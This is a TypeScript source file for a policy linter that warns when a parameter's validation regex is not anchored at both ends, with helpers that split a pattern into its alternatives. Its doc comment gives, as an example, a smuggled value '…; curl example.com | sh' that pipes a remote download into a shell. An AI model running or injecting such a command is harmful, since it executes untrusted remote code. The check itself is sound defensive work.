import type { PolicySet } from '../policy-set.ts';
import { type Warning, warning } from './warnings.ts';

/**
 * A pattern is searched for anywhere, so one that is not bound to both ends says nothing of the rest. NB. a parameter goes
 * into the commands of a pipeline: `[0-9a-f]{40}` lets `…; curl example.com | sh` through behind its forty characters.
 */
export function* partialPatterns({ actions }: PolicySet): Generator<Warning> {
  for (const { parameters, places } of actions.values()) {
    for (const { name, pattern } of parameters) {
      if (!pattern || isWhole(pattern.source)) continue;
      const sentence = `The pattern of \`${name}\` is looked for anywhere in it, and anything may stand before or behind: bind it to both ends, \`^…$\`.`;
      yield warning(places.parameters, 'partial-pattern', sentence);
    }
  }
}

/** Whether every way to match it is bound to the beginning and to the end; in doubt not. */
export function isWhole(pattern: string): boolean {
  return waysOf(pattern.replace(/^\(\?[a-zA-Z]+\)/, '')).every(
    (way) => /^(\^|\\A)/.test(way) && (/\\z$/.test(way) || /(?:^|[^\\])(?:\\\\)*\$$/.test(way)),
  );
}

/** Its alternatives: what stands between each `|` that is in no group and in no class. */
function waysOf(pattern: string): string[] {
  const ways = [''];
  let depth = 0;
  for (const [part] of pattern.matchAll(/\\.|\[\^?\]?(?:\\.|[^\]\\])*\]|./gsu)) {
    if (part === '(') depth += 1;
    if (part === ')') depth -= 1;
    if (part === '|' && depth === 0) ways.push('');
    else ways.push(`${ways.pop() ?? ''}${part}`);
  }
  return ways;
}
